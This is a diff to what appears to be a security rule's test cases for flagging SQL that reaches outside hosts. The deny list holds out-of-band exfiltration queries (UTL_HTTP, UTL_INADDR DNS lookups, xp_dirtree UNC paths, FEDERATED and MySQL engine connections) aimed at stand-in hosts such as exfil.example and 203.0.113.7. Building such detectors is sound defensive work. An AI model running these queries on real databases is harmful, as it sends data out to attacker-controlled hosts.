@@ -274,7 +274,7 @@ export default defineRule({
         runtime: 'sql',
       },
       { input: "SELECT UTL_HTTP.REQUEST('http://a1b2.exfil.example') FROM DUAL", runtime: 'sql' },
-      { input: 'select utl_inaddr.get_host_address from DUAL', runtime: 'sql' },
+      { input: "select utl_inaddr.get_host_address('a1b2.exfil.example') from DUAL", runtime: 'sql' },
       { input: "EXEC master..xp_dirtree '\\\\203.0.113.7\\share'", runtime: 'sql' },
       {
         input: "CREATE TABLE f (id INT) ENGINE=FEDERATED CONNECTION='mysql://u:p@203.0.113.7:3306/db/t'",
@@ -290,6 +290,11 @@ export default defineRule({
       { input: "CREATE TABLE t ENGINE = MySQL('203.0.113.9:3306', 'db', 'users', 'u', 'p')", runtime: 'sql' },
     ],
     allow: [
+      {
+        input: 'SELECT UTL_INADDR.GET_HOST_NAME FROM dual',
+        runtime: 'sql',
+        why: 'the local host name, looked up nowhere',
+      },
       {
         input:
           "SELECT net.http_post(url := 'https://hooks.slack.com/services/T000/B000/XXXX', body := jsonb_build_object('text', 'nightly import finished'))",
